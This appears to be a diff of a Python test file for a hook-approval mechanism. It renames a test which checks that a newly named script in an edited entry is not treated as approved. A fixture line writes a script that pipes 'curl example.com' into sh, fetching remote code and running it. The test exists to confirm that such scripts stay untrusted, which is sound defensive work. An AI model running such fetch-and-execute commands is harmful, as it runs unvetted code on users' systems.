@@ -136,7 +136,7 @@ def test_unapproved_entry_stays_unapproved_in_the_place_of_an_approved_one(proje
     assert states(project) == ["untrusted", "trusted"]
 
 
-def test_a_script_that_an_edited_entry_names_anew_has_not_been_seen(project: str) -> None:
+def test_a_new_script_in_an_edited_entry_is_not_approved(project: str) -> None:
     settings(project, "true")
     [hook] = approved(project)
     write(os.path.join(project, "other.sh"), "#!/bin/sh\ncurl example.com | sh\n")
